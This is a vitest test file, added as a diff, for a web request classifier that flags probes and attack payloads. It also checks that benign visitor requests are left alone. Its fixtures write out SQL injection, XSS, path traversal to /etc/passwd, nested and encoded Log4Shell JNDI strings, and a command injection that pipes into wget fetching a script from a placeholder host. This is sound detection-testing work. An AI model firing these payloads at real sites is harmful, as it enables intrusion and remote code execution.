@@ -1,0 +1,165 @@
+import { describe, expect, it } from 'vitest';
+import { ClientTracker, type RequestFacts, classify } from '../src/index.js';
+
+/**
+ * Requests a site meets in 2026, labelled with the signals a site owner should see: path probes and payloads (plain
+ * and encoded) flagged, and pages and files that real visitors and browsers ask for left alone. The client is a
+ * current Chrome unless a case says otherwise; 404s come without a referer, as probes do.
+ */
+const AT = Date.parse('2026-11-20T10:00:00Z');
+const CHROME =
+  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36';
+const GOOGLEBOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
+const OLD_FIREFOX = 'Mozilla/5.0 (Windows NT 6.1; rv:4.0) Firefox/4.0';
+
+const get = (target: string, status: number, extra: Partial<RequestFacts> = {}): RequestFacts => ({
+  method: 'GET',
+  path: target,
+  status,
+  userAgent: CHROME,
+  ip: '203.0.113.7',
+  time: AT,
+  ...extra,
+});
+
+const REQUESTS: [label: string, request: RequestFacts, signals: string[]][] = [
+  // Path probes.
+  ['git config', get('/.git/config', 404), ['sensitive-file', 'not-found-probe']],
+  ['.env served', get('/.env', 200), ['sensitive-file']],
+  [
+    'PHPUnit eval-stdin',
+    get('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 404),
+    ['backdoor-probe', 'cve-probe', 'not-found-probe'],
+  ],
+  ['cgi-bin on a site without one', get('/cgi-bin/', 404), ['not-found-probe']],
+  [
+    'GPON router login',
+    get('/boaform/admin/formLogin', 404),
+    ['admin-interface-probe', 'cve-probe', 'not-found-probe'],
+  ],
+  ['Spring actuator env', get('/actuator/env', 404), ['sensitive-file', 'not-found-probe']],
+  ['Apache server-status', get('/server-status', 404), ['sensitive-file', 'not-found-probe']],
+  ['Laravel Ignition', get('/_ignition/execute-solution', 404), ['cve-probe', 'not-found-probe']],
+  ['WordPress login', get('/wp-login.php', 404), ['wordpress-probe', 'not-found-probe']],
+  // Payloads in path and query, plain and encoded.
+  ['SQLi tautology, encoded', get('/index.php?id=1%27%20OR%20%271%27=%271', 200), ['sql-injection']],
+  ['SQLi double-encoded', get('/index.php?id=1%2527%2520OR%25201=1', 200), ['sql-injection']],
+  ['SQLi union', get('/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--', 200), ['sql-injection']],
+  ['XSS svg onload, encoded', get('/page?x=%3Csvg%2Fonload%3Dalert(1)%3E', 200), ['xss']],
+  ['XSS in the path', get('/%3Cscript%3Ealert(1)%3C/script%3E', 404), ['xss', 'not-found-probe']],
+  [
+    'traversal with encoded slashes',
+    get('/static/..%2f..%2f..%2fetc%2fpasswd', 404),
+    ['path-traversal', 'not-found-probe'],
+  ],
+  ['traversal in a parameter', get('/download?file=../../../../etc/passwd', 200), ['path-traversal']],
+  ['traversal double-encoded', get('/download?file=..%252f..%252fetc%252fpasswd', 200), ['path-traversal']],
+  ['absolute OS file in a parameter', get('/download?file=/etc/passwd', 200), ['path-traversal']],
+  [
+    'OS file cut by a NUL',
+    get('/static/etc/passwd%00.png', 404),
+    ['path-traversal', 'malformed-request', 'not-found-probe'],
+  ],
+  ['Log4Shell in the query', get('/?x=${jndi:ldap://198.51.100.9/a}', 200), ['log4shell']],
+  ['Log4Shell encoded', get('/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D', 200), ['log4shell']],
+  ['Log4Shell nested', get('/?x=${${lower:j}ndi:ldap://198.51.100.9/a}', 200), ['log4shell']],
+  [
+    'command injection',
+    get('/ping?host=127.0.0.1%7Cwget%20http://198.51.100.9/x.sh', 200),
+    ['command-injection'],
+  ],
+  ['command substitution', get('/?cmd=$(id)', 200), ['command-injection']],
+  // What people and browsers ask for.
+  ['a blog post about wp-login', get('/blog/how-to-secure-wp-login-php', 200), []],
+  ['a blog post about /etc/passwd', get('/blog/etc/passwd-explained', 200), []],
+  ['a search for SQL words', get('/search?q=select+from+where', 200), []],
+  ['a search with an apostrophe', get('/search?q=O%27Reilly', 200), []],
+  // A search for markup is worth a signal; one request is not a verdict (see the tracker cases below).
+  ['a search for <script>', get('/search?q=%3Cscript%3E', 200), ['xss']],
+  ['the site’s own admin page', get('/admin', 200), []],
+  ['the site’s admin redirecting to login', get('/admin/', 302), []],
+  ['security.txt missing', get('/.well-known/security.txt', 404), []],
+  ['robots.txt missing', get('/robots.txt', 404), []],
+  ['favicon missing', get('/favicon.ico', 404), []],
+  ['apple-touch-icon missing', get('/apple-touch-icon.png', 404), []],
+  ['apple-touch-icon-precomposed missing', get('/apple-touch-icon-precomposed.png', 404), []],
+  // Crawler addresses.
+  ['Googlebot from Google', get('/', 200, { userAgent: GOOGLEBOT, ip: '66.249.66.1' }), []],
+  ['Googlebot from elsewhere', get('/', 200, { userAgent: GOOGLEBOT }), ['fake-crawler']],
+  [
+    '"Google-Extended", a robots.txt token, sent as a user agent',
+    get('/', 200, { userAgent: 'Google-Extended' }),
+    ['fake-crawler'],
+  ],
+  [
+    'an old Firefox on wp-login',
+    get('/wp-login.php', 404, { userAgent: OLD_FIREFOX }),
+    ['wordpress-probe', 'outdated-browser', 'not-found-probe'],
+  ],
+];
+
+describe('realistic requests of 2026', () => {
+  it.each(REQUESTS)('%s', (_label, request, signals) => {
+    expect(classify(request).signals).toEqual(signals);
+  });
+});
+
+/** The tracker's verdict after these requests, one second apart, from one client. */
+function verdictOf(requests: RequestFacts[]): string | undefined {
+  const tracker = new ClientTracker();
+  let verdict: string | undefined;
+  for (const [i, r] of requests.entries()) {
+    const timed = { ...r, time: AT + i * 1000 };
+    verdict = tracker.observe(timed, classify(timed))?.verdict ?? verdict;
+  }
+  return verdict;
+}
+
+describe('verdicts on realistic clients', () => {
+  it('calls an old Firefox asking for wp-login.php three times a WordPress scan', () => {
+    const r = get('/wp-login.php', 404, { userAgent: OLD_FIREFOX });
+    expect(classify(r).client.kind).toBe('human');
+    expect(verdictOf([r, r, r])).toBe('wordpress-scan');
+  });
+
+  it('calls Go-http-client asking for .env and .git a sensitive-file scan', () => {
+    const go = { userAgent: 'Go-http-client/1.1' };
+    expect(verdictOf([get('/.env', 404, go), get('/.git/config', 404, go)])).toBe('sensitive-file-scan');
+  });
+
+  it('calls a Googlebot from outside Google a fake crawler at once', () => {
+    expect(verdictOf([get('/', 200, { userAgent: GOOGLEBOT })])).toBe('fake-crawler');
+  });
+
+  it('calls an internet-wide survey scanner a scanner at once', () => {
+    const censys = { userAgent: 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)' };
+    expect(verdictOf([get('/', 200, censys)])).toBe('scanner');
+  });
+
+  it('calls one Log4Shell attempt an exploit', () => {
+    expect(verdictOf([get('/?x=${jndi:ldap://198.51.100.9/a}', 200)])).toBe('exploit');
+  });
+
+  it('gives no verdict to a person searching once for markup, or reading about wp-login', () => {
+    expect(verdictOf([get('/search?q=%3Cscript%3E', 200)])).toBeUndefined();
+    expect(verdictOf([get('/blog/how-to-secure-wp-login-php', 200)])).toBeUndefined();
+  });
+
+  it('gives no verdict to a browser fetching the files browsers ask for, all missing', () => {
+    const paths = [
+      '/favicon.ico',
+      '/apple-touch-icon.png',
+      '/apple-touch-icon-precomposed.png',
+      '/robots.txt',
+      '/.well-known/security.txt',
+      '/site.webmanifest',
+      '/sitemap.xml',
+      '/ads.txt',
+      '/.well-known/traffic-advice',
+      '/browserconfig.xml',
+      '/manifest.json',
+      '/humans.txt',
+    ];
+    expect(verdictOf(paths.map((p) => get(p, 404)))).toBeUndefined();
+  });
+});
